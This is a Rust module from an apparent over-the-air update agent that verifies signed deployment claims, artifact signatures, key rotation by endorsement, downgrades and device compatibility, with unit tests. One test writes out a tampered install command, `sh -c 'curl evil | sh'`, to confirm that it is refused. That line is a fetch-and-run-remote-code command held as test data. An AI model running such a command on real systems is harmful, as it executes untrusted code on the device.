//! What the agent checks before it lets an update near the device, all of it here so the rules
//! can be read (and tested) in one place: the server's signed claims for this execution, the
//! artifact's own signature, the bytes against both, and the version against what is installed.
//! Every refusal names its failure class, and none is ever retried.

use base64::{Engine, engine::general_purpose::STANDARD as B64};
use baton_proto::{
    api::{
        artifacts::{ArtifactSignature, statement},
        rollouts::FailureClass,
    },
    deployment::{
        DeployedArtifact, Deployment, ExecutionClaims, KeyEndorsement, VerificationKey, endorsement_statement,
        install_line,
    },
    inventory::Inventory,
    version,
};
use ed25519_dalek::{Signature, VerifyingKey};
use sha2::{Digest, Sha256};

/// A refusal: its class and the words for the operator.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Refusal {
    pub class: FailureClass,
    pub detail: String,
}

fn refuse(class: FailureClass, detail: impl Into<String>) -> Refusal {
    Refusal { class, detail: detail.into() }
}

/// The update keys the device trusts after this message: with none pinned yet (a device enrolled
/// before pinning, or while its tenant had no key), the keys listed — trust on first use; else
/// the pinned keys, plus every listed key a trusted key endorses (in chains: the TUF
/// root-rotation pattern), less pinned keys no longer listed (revoked) as long as one trusted
/// key remains. A key the server lists without such an endorsement is never trusted.
pub fn follow_keys(
    pinned: Option<&[VerificationKey]>,
    listed: &[VerificationKey],
    endorsements: &[KeyEndorsement],
) -> Vec<VerificationKey> {
    let Some(pinned) = pinned.filter(|p| !p.is_empty()) else {
        return listed.iter().filter(|k| parse_key(k).is_some()).cloned().collect();
    };
    let mut trusted: Vec<VerificationKey> = pinned.to_vec();
    loop {
        let before = trusted.len();
        for e in endorsements {
            let known = trusted.iter().any(|k| k.key_id == e.key.key_id);
            let Some(signer) = trusted.iter().find(|k| k.key_id == e.signer_key_id).and_then(parse_key) else {
                continue;
            };
            let Some(key) = parse_key(&e.key) else { continue };
            let signature = B64.decode(e.signature.trim()).ok().and_then(|b| <[u8; 64]>::try_from(b).ok());
            let endorsed = signature.is_some_and(|s| {
                signer.verify_strict(&endorsement_statement(&e.key), &Signature::from_bytes(&s)).is_ok()
            });
            // The id must be the key's own, or an endorsement could smuggle a key in under a trusted id.
            if !known && endorsed && key_id(&key) == e.key.key_id {
                trusted.push(e.key.clone());
            }
        }
        if trusted.len() == before {
            break;
        }
    }
    let still_listed: Vec<VerificationKey> =
        trusted.iter().filter(|k| listed.iter().any(|l| l == *k)).cloned().collect();
    if still_listed.is_empty() { trusted } else { still_listed }
}

fn parse_key(key: &VerificationKey) -> Option<VerifyingKey> {
    let bytes: [u8; 32] = B64.decode(key.public_key.trim()).ok()?.try_into().ok()?;
    VerifyingKey::from_bytes(&bytes).ok()
}

/// The keys the agent checks with: those configured on the device (`trusted_keys`) when there
/// are any — the server then cannot introduce a key — else the ones it trusts by pinning.
pub fn keys(configured: &[String], sent: &[VerificationKey]) -> Vec<(String, VerifyingKey)> {
    if configured.is_empty() {
        sent.iter().filter_map(|k| Some((k.key_id.clone(), parse_key(k)?))).collect()
    } else {
        let configured = configured.iter().map(|k| VerificationKey { key_id: String::new(), public_key: k.clone() });
        configured.filter_map(|k| parse_key(&k)).map(|key| (key_id(&key), key)).collect()
    }
}

/// A key's id as the server computes it: the first 8 bytes of the SHA-256 of the public key.
pub fn key_id(key: &VerifyingKey) -> String {
    Sha256::digest(key.as_bytes())[..baton_proto::api::artifacts::KEY_ID_BYTES]
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

fn verify(keys: &[(String, VerifyingKey)], message: &[u8], sig: &ArtifactSignature) -> bool {
    let Some((_, key)) = keys.iter().find(|(id, _)| *id == sig.key_id) else { return false };
    let Some(bytes) = B64.decode(sig.signature.trim()).ok().and_then(|b| <[u8; 64]>::try_from(b).ok()) else {
        return false;
    };
    key.verify_strict(message, &Signature::from_bytes(&bytes)).is_ok()
}

/// The claims, checked: signed by a trusted key, for this device and this execution, about
/// this artifact, not expired.
pub fn claims(
    deployment: &Deployment,
    keys: &[(String, VerifyingKey)],
    device_id: &str,
    now_ms: i64,
) -> Result<ExecutionClaims, Refusal> {
    if !verify(keys, deployment.claims.as_bytes(), &deployment.claims_signature) {
        return Err(refuse(FailureClass::Integrity, "the execution claims are not signed by a key this device trusts"));
    }
    let claims = ExecutionClaims::parse(&deployment.claims).map_err(|e| refuse(FailureClass::Integrity, e))?;
    let a = &deployment.artifact;
    if claims.device_id != device_id || claims.execution_id != deployment.execution_id {
        return Err(refuse(FailureClass::Integrity, "the execution claims are for another device or execution"));
    }
    if claims.name != a.name || claims.version != a.version || claims.sha256 != a.sha256 || claims.size != a.size {
        return Err(refuse(FailureClass::Integrity, "the execution claims do not match the artifact sent"));
    }
    // Where and how to install is signed too: a path or command changed on the way is refused.
    if claims.install != install_line(&deployment.install) || claims.install_now != deployment.install_now {
        return Err(refuse(FailureClass::Integrity, "the install settings differ from what the server signed"));
    }
    if claims.expires_at <= now_ms {
        return Err(refuse(FailureClass::Expired, "the execution claims expired; the server sends fresh ones"));
    }
    Ok(claims)
}

/// The artifact's own signature, over its statement.
pub fn artifact_signature(a: &DeployedArtifact, keys: &[(String, VerifyingKey)]) -> Result<(), Refusal> {
    let Some(sig) = &a.signature else {
        return Err(refuse(FailureClass::Integrity, "the artifact is not signed"));
    };
    let text = statement(&a.name, &a.version, a.kind, a.size, &a.sha256);
    if verify(keys, &text, sig) {
        Ok(())
    } else {
        Err(refuse(
            FailureClass::Integrity,
            format!("the artifact's signature does not verify with key {}", sig.key_id),
        ))
    }
}

/// The version against the one installed: `Ok(true)` when it is installed already.
pub fn version_allowed(a: &DeployedArtifact, installed: Option<&str>, allow_downgrade: bool) -> Result<bool, Refusal> {
    match installed.map(|v| version::compare(&a.version, v)) {
        Some(std::cmp::Ordering::Equal) => Ok(true),
        Some(std::cmp::Ordering::Less) if !allow_downgrade => Err(refuse(
            FailureClass::Downgrade,
            format!(
                "{} {} is older than the installed {}; the rollout does not allow a downgrade",
                a.name,
                a.version,
                installed.unwrap_or_default()
            ),
        )),
        _ => Ok(false),
    }
}

/// The artifact's compatibility against the device, and its dependency against what is installed.
pub fn fits(
    a: &DeployedArtifact,
    inventory: &Inventory,
    installed: impl Fn(&str) -> Option<String>,
) -> Result<(), Refusal> {
    let c = &a.compatibility;
    let matches = |wanted: &[String], have: Option<&String>| {
        wanted.is_empty() || have.is_some_and(|h| wanted.iter().any(|w| w.eq_ignore_ascii_case(h)))
    };
    if !matches(&c.os, inventory.os_family.as_ref()) {
        return Err(refuse(
            FailureClass::Incompatible,
            format!(
                "for {}; this device runs {}",
                c.os.join(", "),
                inventory.os_family.as_deref().unwrap_or("an unknown OS")
            ),
        ));
    }
    if !matches(&c.arch, inventory.architecture.as_ref()) {
        return Err(refuse(
            FailureClass::Incompatible,
            format!(
                "for {}; this device is {}",
                c.arch.join(", "),
                inventory.architecture.as_deref().unwrap_or("of an unknown architecture")
            ),
        ));
    }
    if !matches(&c.models, inventory.model.as_ref()) {
        return Err(refuse(FailureClass::Incompatible, format!("for models {}", c.models.join(", "))));
    }
    if let Some(dep) = &a.depends {
        let have = installed(&dep.name);
        let ok = match &have {
            Some(v) => version::satisfies(v, &dep.versions).unwrap_or(false),
            None => false,
        };
        if !ok {
            return Err(refuse(
                FailureClass::Dependency,
                format!("needs {} {}; this device has {}", dep.name, dep.versions, have.as_deref().unwrap_or("none")),
            ));
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use baton_proto::api::artifacts::{ArtifactKind, Compatibility, Dependency};
    use ed25519_dalek::{Signer, SigningKey};

    use super::*;

    fn signed(key: &SigningKey, text: &[u8]) -> ArtifactSignature {
        ArtifactSignature { key_id: key_id(&key.verifying_key()), signature: B64.encode(key.sign(text).to_bytes()) }
    }

    fn listed(key: &SigningKey) -> VerificationKey {
        VerificationKey { key_id: key_id(&key.verifying_key()), public_key: B64.encode(key.verifying_key().as_bytes()) }
    }

    fn endorsement(signer: &SigningKey, key: &SigningKey) -> KeyEndorsement {
        let key = listed(key);
        let signature = B64.encode(signer.sign(&endorsement_statement(&key)).to_bytes());
        KeyEndorsement { key, signer_key_id: key_id(&signer.verifying_key()), signature }
    }

    #[test]
    fn a_listed_key_is_trusted_only_when_a_pinned_key_endorses_it() {
        let (old, new, rogue) =
            (SigningKey::from_bytes(&[1; 32]), SigningKey::from_bytes(&[2; 32]), SigningKey::from_bytes(&[3; 32]));
        let pinned = vec![listed(&old)];
        // Listed but not endorsed: not trusted, however the server presents it.
        let got = follow_keys(Some(&pinned), &[listed(&old), listed(&rogue)], &[]);
        assert_eq!(got, pinned);
        let self_endorsed = endorsement(&rogue, &rogue);
        assert_eq!(
            follow_keys(Some(&pinned), &[listed(&rogue)], &[self_endorsed]),
            pinned,
            "no key vouches for itself"
        );
        // An endorsement with a forged signature, or claiming the id of a trusted key, is ignored.
        let mut forged = endorsement(&old, &rogue);
        forged.signature = endorsement(&new, &rogue).signature;
        assert_eq!(follow_keys(Some(&pinned), &[listed(&rogue)], &[forged]), pinned);
        let mut smuggled = endorsement(&old, &rogue);
        smuggled.key.key_id = listed(&new).key_id;
        assert_eq!(follow_keys(Some(&pinned), &[smuggled.key.clone()], &[smuggled]), pinned);
        // Endorsed by the pinned key: trusted; and the old key, no longer listed, is let go.
        let rotated = follow_keys(Some(&pinned), &[listed(&new)], &[endorsement(&old, &new)]);
        assert_eq!(rotated, vec![listed(&new)]);
        // A chain is followed: old → new → newest, for a device that missed a rotation.
        let newest = SigningKey::from_bytes(&[4; 32]);
        let chain = [endorsement(&new, &newest), endorsement(&old, &new)];
        assert_eq!(follow_keys(Some(&pinned), &[listed(&newest)], &chain), vec![listed(&newest)]);
        // Nothing pinned yet: the listed keys, on first use.
        assert_eq!(follow_keys(None, &[listed(&old)], &[]), vec![listed(&old)]);
        // Every trusted key unlisted (a stripped message): the pins stay.
        assert_eq!(follow_keys(Some(&pinned), &[], &[]), pinned);
    }

    fn deployment(key: &SigningKey, expires_at: i64) -> Deployment {
        let artifact = DeployedArtifact {
            name: "app".into(),
            version: "2.0".into(),
            kind: ArtifactKind::File,
            size: 3,
            sha256: "ab".repeat(32),
            signature: None,
            url: "/x".into(),
            compatibility: Compatibility::default(),
            depends: None,
        };
        let claims = ExecutionClaims {
            execution_id: "e1".into(),
            device_id: "d1".into(),
            name: "app".into(),
            version: "2.0".into(),
            sha256: "ab".repeat(32),
            size: 3,
            allow_downgrade: false,
            install: install_line(&Default::default()),
            install_now: true,
            expires_at,
        }
        .statement();
        Deployment {
            execution_id: "e1".into(),
            attempt: 1,
            claims_signature: signed(key, claims.as_bytes()),
            claims,
            artifact,
            install: Default::default(),
            install_now: true,
            keys: vec![listed(key)],
            key_endorsements: Vec::new(),
        }
    }

    #[test]
    fn claims_are_checked_for_key_device_artifact_and_time() {
        let key = SigningKey::from_bytes(&[7; 32]);
        let d = deployment(&key, 2_000);
        let trusted = keys(&[], &d.keys);
        assert!(claims(&d, &trusted, "d1", 1_000).is_ok());
        assert_eq!(claims(&d, &trusted, "d1", 2_000).map_err(|r| r.class), Err(FailureClass::Expired));
        assert_eq!(claims(&d, &trusted, "d2", 1_000).map_err(|r| r.class), Err(FailureClass::Integrity));
        let mut other = d.clone();
        other.artifact.size = 4;
        assert_eq!(claims(&other, &trusted, "d1", 1_000).map_err(|r| r.class), Err(FailureClass::Integrity));
        let mut moved = d.clone();
        moved.install.command = vec!["sh".into(), "-c".into(), "curl evil | sh".into()];
        assert_eq!(claims(&moved, &trusted, "d1", 1_000).map_err(|r| r.class), Err(FailureClass::Integrity));
        let mut early = d.clone();
        early.install_now = false;
        assert_eq!(claims(&early, &trusted, "d1", 1_000).map_err(|r| r.class), Err(FailureClass::Integrity));
        // A device configured with its own keys ignores the ones the server lists.
        let pinned = keys(&[B64.encode(SigningKey::from_bytes(&[9; 32]).verifying_key().as_bytes())], &d.keys);
        assert_eq!(claims(&d, &pinned, "d1", 1_000).map_err(|r| r.class), Err(FailureClass::Integrity));
    }

    #[test]
    fn versions_and_fit_are_judged_against_the_device() {
        let key = SigningKey::from_bytes(&[7; 32]);
        let mut a = deployment(&key, 1).artifact;
        assert_eq!(version_allowed(&a, Some("2.0"), false), Ok(true));
        assert_eq!(version_allowed(&a, Some("1.9"), false), Ok(false));
        assert_eq!(version_allowed(&a, Some("2.1"), false).map_err(|r| r.class), Err(FailureClass::Downgrade));
        assert_eq!(version_allowed(&a, Some("2.1"), true), Ok(false));
        let linux =
            Inventory { os_family: Some("linux".into()), architecture: Some("x86_64".into()), ..Inventory::default() };
        a.compatibility.os = vec!["windows".into()];
        assert_eq!(fits(&a, &linux, |_| None).map_err(|r| r.class), Err(FailureClass::Incompatible));
        a.compatibility.os = vec!["Linux".into()];
        a.depends = Some(Dependency { name: "runtime".into(), versions: ">=2".into() });
        assert_eq!(fits(&a, &linux, |_| Some("1.5".into())).map_err(|r| r.class), Err(FailureClass::Dependency));
        assert!(fits(&a, &linux, |_| Some("2.2".into())).is_ok());
    }
}
